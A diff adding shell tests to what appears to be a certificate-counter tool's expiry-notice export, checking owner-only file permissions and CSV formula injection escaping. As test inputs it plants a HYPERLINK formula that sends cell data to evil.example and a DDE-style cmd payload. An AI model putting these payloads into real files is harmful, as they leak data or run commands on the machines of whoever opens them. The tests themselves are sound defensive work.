@@ -119,5 +119,47 @@ expect_eq "quoted row" "$got" "谷塚 \"五郎\"|$QUOTED_ADDRESS|new"
 check "R12: a window in days works the same way"
 ok counter notices --within 90d --out "$NOTICES" --clerk suzuki --json
 json_expect "90-day run" certificates=3 notices=0 already=3
+
+check "R12: the notices and the CSV (check codes, names, addresses) are readable by their owner only"
+for f in "$CSV" "$NOTICES"/notice-*.pdf; do
+	expect_eq "mode of $(basename "$f")" "$(stat -c %a "$f")" 600
+done
+
+check "R12: register values a spreadsheet would evaluate are written as text (OWASP CSV injection); the rest unchanged"
+export JPKI_NOW=2026-04-01T10:00:00+09:00
+EVIL_NAME='=HYPERLINK("http://evil.example/?"&A1,"x") 太郎'
+EVIL_ADDRESS="@SUM(1+1)*cmd|' /C calc'!A0"
+EVIL=$(add_resident "$(individual_number 10000000006)" "$EVIL_NAME" \
+	"$EVIL_ADDRESS" 1990-09-10 male)                       # expire 2030-09-10
+E_AUTH=$(issue "$EVIL" auth "$TMP/e-auth.pem")
+MINUS=$(add_resident "$(individual_number 10000000007)" '-2+3 花子' \
+	'+81 埼玉県草加市' 1990-09-11 female)
+M_AUTH=$(issue "$MINUS" auth "$TMP/m-auth.pem")
+export JPKI_NOW=2030-08-01T09:00:00+09:00
+ok counter notices --within 3m --out "$TMP/evil" --clerk suzuki --json
+csv_cells() {       # holder|address|status of the row of serial $1
+	"$PYTHON" -c '
+import csv, sys
+for row in csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")):
+    if row["serial"] == sys.argv[2]:
+        print(row["holder"] + "|" + row["address"] + "|" + row["status"])
+' "$TMP/evil/notices.csv" "$1"
+}
+expect_eq "formula name and address" "$(csv_cells "$E_AUTH")" "'$EVIL_NAME|'$EVIL_ADDRESS|new"
+expect_eq "leading minus and plus" "$(csv_cells "$M_AUTH")" "'-2+3 花子|'+81 埼玉県草加市|new"
+expect_eq "ordinary row" "$(csv_cells "$Q_AUTH")" "谷塚 \"五郎\"|$QUOTED_ADDRESS|already"
+! grep -q '^=\|,=\|,@\|,+\|,-' "$TMP/evil/notices.csv" ||
+	fail "a cell begins with a formula character: $(cat "$TMP/evil/notices.csv")"
+grep -q "\"'=HYPERLINK(\"\"http" "$TMP/evil/notices.csv" ||
+	fail "the formula cell is not quoted text: $(cat "$TMP/evil/notices.csv")"
+
+check "R12: document_mode = 0640 in the config gives the group read access; a mode for others is refused"
+sed -i 's/^document_mode = .*/document_mode = 0640/' "$DATA/config"
+ok counter notices --within 3m --out "$TMP/evil" --clerk suzuki --json
+expect_eq "CSV mode" "$(stat -c %a "$TMP/evil/notices.csv")" 640
+sed -i 's/^document_mode = .*/document_mode = 0644/' "$DATA/config"
+expect_status 2 counter notices --within 3m --out "$TMP/evil" --clerk suzuki
+expect_one_error_line 'document_mode'
+sed -i 's/^document_mode = .*/document_mode = 0600/' "$DATA/config"
 expect_audit_ok "at the end"
 done_ok
